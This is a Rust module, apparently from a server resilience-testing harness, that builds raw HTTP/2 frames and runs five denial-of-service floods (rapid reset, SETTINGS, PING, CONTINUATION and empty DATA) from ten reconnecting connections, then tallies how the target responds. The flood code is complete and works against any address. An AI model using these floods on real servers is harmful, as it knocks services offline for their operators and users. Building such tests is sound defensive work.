//! Sieges by HTTP/2: frames that cost their sender nothing, sent over and over, on a new connection after each that was
//! cut (RFC 9113 section 10.5).

use std::{
    io,
    net::SocketAddr,
    sync::Arc,
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    task::JoinSet,
    time::{sleep, timeout},
};

use super::{
    Outcome,
    report::Fates,
    slow::{ATTACKER, SIEGE},
    wire::connect,
};

/// Attackers at once.
const ATTACKERS: usize = 10;
/// No connection should be flooded for longer than that.
const PATIENCE: Duration = Duration::from_secs(5);
/// Before the next attempt.
const BREATH: Duration = Duration::from_millis(20);

/// A frame as it is on the wire (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `:method GET`, `:scheme http`, `:path /`, `:authority a` (RFC 7541).
const HEAD: &[u8] = &[0x82, 0x86, 0x84, 0x01, 0x01, b'a'];

/// Each flood with its name.
pub(super) fn floods() -> [(&'static str, Vec<u8>); 5] {
    let request_and_reset = |number: u32| {
        let stream = number * 2 + 1;
        [frame(1, 5, stream, HEAD), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
    };
    // A field that is not indexed, so that nothing is saved by saying it again.
    let field = [&[0x00, 0x01, b'a', 0x7f, 0x80, 0x01][..], &[b'x'; 255]].concat();
    [
        ("h2 rapid reset", (0..50_000).flat_map(request_and_reset).collect()),
        ("h2 SETTINGS", frame(4, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(200_000)),
        ("h2 PING", frame(6, 0, 0, b"12345678").repeat(200_000)),
        ("h2 CONTINUATION", [frame(1, 1, 1, HEAD), frame(9, 0, 1, &field).repeat(20_000)].concat()),
        ("h2 empty DATA", [frame(1, 4, 1, HEAD), frame(0, 0, 1, b"").repeat(200_000)].concat()),
    ]
}

/// Floods for the time of a siege.
pub(super) async fn flood(to: SocketAddr, frames: Vec<u8>) -> Outcome<String> {
    let frames = Arc::new(frames);
    let mut attackers: JoinSet<Vec<(&str, Duration)>> = (0..ATTACKERS).map(|_| again(to, frames.clone())).collect();
    let mut fates = Fates::default();
    while let Some(connections) = attackers.join_next().await {
        for (way, after) in connections? {
            fates.add(way, after);
        }
    }
    Ok(fates.line())
}

async fn again(to: SocketAddr, frames: Arc<Vec<u8>>) -> Vec<(&'static str, Duration)> {
    let (start, mut ends) = (Instant::now(), Vec::new());
    while start.elapsed() < SIEGE {
        let begun = Instant::now();
        let way = match timeout(PATIENCE, once(to, &frames)).await {
            Ok(Ok(())) => "cut",
            Ok(Err(_)) => "not connected",
            Err(_) => "still there",
        };
        ends.push((way, begun.elapsed()));
        sleep(BREATH).await;
    }
    ends
}

/// Sends all of it unless it is cut, and waits for the end.
async fn once(to: SocketAddr, frames: &[u8]) -> io::Result<()> {
    let mut socket = connect(ATTACKER, to).await?;
    let (mut reading, mut writing) = socket.split();
    let sending = async {
        let opening = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, b"")].concat();
        // What is cut cannot be written to.
        let _cut = writing.write_all(&opening).await;
        let _cut = writing.write_all(frames).await;
    };
    let receiving = async {
        let mut scrap = vec![0; 65536];
        while reading.read(&mut scrap).await.is_ok_and(|read| read > 0) {}
    };
    tokio::join!(sending, receiving);
    Ok(())
}
